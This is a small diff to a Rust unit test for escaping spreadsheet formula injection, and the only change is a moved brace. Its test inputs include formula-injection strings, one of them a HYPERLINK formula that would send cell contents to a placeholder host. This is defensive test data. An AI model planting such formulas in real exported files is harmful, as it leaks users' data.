@@ -30,7 +30,8 @@ mod tests {
 
     #[test]
     fn what_a_spreadsheet_would_run_is_quoted_and_comes_back() {
-        for text in ["=HYPERLINK(\"http://x/?\"&A1)", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=1", "＝1"] {
+        for text in ["=HYPERLINK(\"http://x/?\"&A1)", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=1", "＝1"]
+        {
             let cell = quoted(text);
             assert_eq!(cell, format!("'{text}"));
             assert_eq!(unquoted(&cell), text);
